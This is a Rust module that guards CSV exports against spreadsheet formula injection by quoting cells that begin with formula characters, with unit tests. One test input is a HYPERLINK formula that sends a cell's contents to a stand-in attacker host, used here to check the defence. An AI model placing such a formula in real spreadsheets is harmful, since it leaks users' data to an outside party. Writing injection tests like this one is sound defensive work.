//! CSV cells that a spreadsheet will not run. A cell whose text starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or becomes
//! one) in Excel, LibreOffice and Google Sheets; OWASP's rule is to prefix
//! it with a single quote, which the spreadsheet shows as text.
//!
//! Tally applies the rule to every text cell of every CSV it writes (names,
//! units, descriptions, reasons, ids), never to the numbers it formats
//! itself (amounts, quantities, prices, positions): a credit of `-6.00`
//! stays a number a spreadsheet can add up. Those are validated decimals
//! Tally printed, not text a tenant chose.

use std::borrow::Cow;

/// The characters that make a spreadsheet cell a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a CSV cell that no spreadsheet evaluates: prefixed with `'`
/// when it starts like a formula, unchanged otherwise. CSV quoting is the
/// writer's job, after this.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_a_formula_get_a_quote() {
        for (text, cell) in [
            (
                r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A1,"x")"#,
            ),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
        ] {
            assert_eq!(text_cell(text), cell);
        }
    }

    #[test]
    fn other_text_is_left_alone() {
        for text in ["DB Co", "db.hour", "", "1-2", "a=b", " =1", "'quoted"] {
            assert!(matches!(text_cell(text), Cow::Borrowed(t) if t == text));
        }
    }
}
